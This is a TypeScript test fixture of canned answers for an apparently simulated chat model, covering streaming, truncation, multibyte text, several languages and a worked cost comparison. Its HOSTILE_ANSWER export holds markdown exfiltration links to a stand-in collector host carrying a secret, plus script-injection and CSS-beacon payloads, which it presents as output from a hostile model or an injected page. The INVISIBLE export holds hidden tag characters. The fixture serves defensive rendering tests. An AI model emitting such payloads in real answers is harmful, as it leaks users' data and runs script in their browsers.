/** Answers of the scripts. Fixed, so that a test can only get them by parsing the stream. */

export const ANSWER = `## Summary

A short, fixed answer of the simulator. It has a **bold** word, a list and a second paragraph.

- First point
- Second point with a [link](https://example.org/)

That is all there is to say.`;

export const LONG_ANSWER = Array.from(
  { length: 40 },
  (_, index) =>
    `### Part ${index + 1}\n\nThe simulator keeps writing so that a reader can watch the text grow, be cut, or be cancelled while it is still being written.`,
).join('\n\n');

/** A first half that stops in mid-sentence, and the rest of it. */
export const FIRST_HALF =
  'The simulator was asked for more than its cap allows, so it stops in the middle of a';
export const SECOND_HALF = ' sentence, and finishes it when it is asked to go on.';

/** Characters of one to four bytes, joined emoji, and a surrogate pair. */
export const MANY_BYTES = 'Grüße – 你好, नमस्ते, שלום 👩‍👩‍👧 and 𝒻𝒾𝓃 🎉.';

/** Invisible characters between letters: tag characters and direction overrides to drop, joiners to keep. */
export const INVISIBLE = {
  sent: 'Visible\u{E0048}\u{E0049} text\u202E with\u202C tricks\u2060. می\u200Cخواهم 👩\u200D🚀 क्\u200Dष',
  seen: 'Visible text with tricks. می\u200Cخواهم 👩\u200D🚀 क्\u200Dष',
} as const;

/** Attacks in Markdown by a hostile model, or a page it has read. None of it may load or run. */
export const HOSTILE_ANSWER = `Here is the result.

![pixel](https://collector.example/p.png?d=secret)
![by reference][r]
<img src=x onerror="alert(1)"><script>alert(2)</script><iframe src="https://collector.example/"></iframe>
[click me](javascript:alert(3)) and [data](data:text/html,<script>alert(4)</script>)

[r]: https://collector.example/r.png "t"

<style>@import url(https://collector.example/s.css);</style>`;

/** Two plain paragraphs in languages of different scripts. */
export const IN_LANGUAGE: Readonly<Record<string, string>> = {
  en: 'This is the answer that you asked for. It has two sentences.\n\nAnd here is a second paragraph with some more words.',
  de: 'Das ist die Antwort, um die du gebeten hast. Sie hat zwei Sätze.\n\nUnd hier ist ein zweiter Absatz mit einigen weiteren Wörtern.',
  fr: 'Voici la réponse que vous avez demandée. Elle contient deux phrases.\n\nEt voici un deuxième paragraphe avec quelques mots de plus.',
  ru: 'Вот ответ, о котором вы просили. В нём два предложения.\n\nА вот второй абзац, в котором ещё несколько слов.',
  ar: 'هذا هو الجواب الذي طلبته. يتكون من جملتين.\n\nوهذه فقرة ثانية فيها بعض الكلمات الأخرى.',
  fa: 'این پاسخی است که خواسته بودید. دو جمله دارد.\n\nو این پاراگراف دوم با چند واژهٔ دیگر است.',
  hi: 'यह वह उत्तर है जो आपने माँगा था। इसमें दो वाक्य हैं।\n\nऔर यह कुछ और शब्दों वाला दूसरा अनुच्छेद है।',
  ja: 'これはご依頼の回答です。文は二つあります。\n\nそしてこれは、もう少し言葉を加えた二つ目の段落です。',
  zh: '这是您要求的答案。它有两句话。\n\n这是第二段，内容稍微多一些。',
  ko: '요청하신 답변입니다. 두 문장으로 되어 있습니다.\n\n그리고 이것은 조금 더 많은 단어가 있는 두 번째 단락입니다.',
  th: 'นี่คือคำตอบที่คุณขอ มีสองประโยค\n\nและนี่คือย่อหน้าที่สองที่มีคำเพิ่มเติมอีกเล็กน้อย',
};

/** A conclusion, with four sections on how it was reached. */
export const REASONED_ANSWER = `Take the train: it is 18 euros cheaper and leaves room for one meeting more.

## Assumptions

- Two people travel, both with a rail card.
- The price of fuel was not known; 1.80 euros a litre is taken.

## Steps

1. The train costs 2 × 39 = 78 euros.
2. The car needs 40 litres, 40 × 1.80 = 72 euros, and 24 euros of toll: 96 euros.
3. 96 − 78 = 18 euros in favour of the train.

## Check

With fuel at 1.35 euros the two would cost the same, which is below any price of the last two years. The conclusion holds.

## Confidence

High. A third traveller would change it.`;
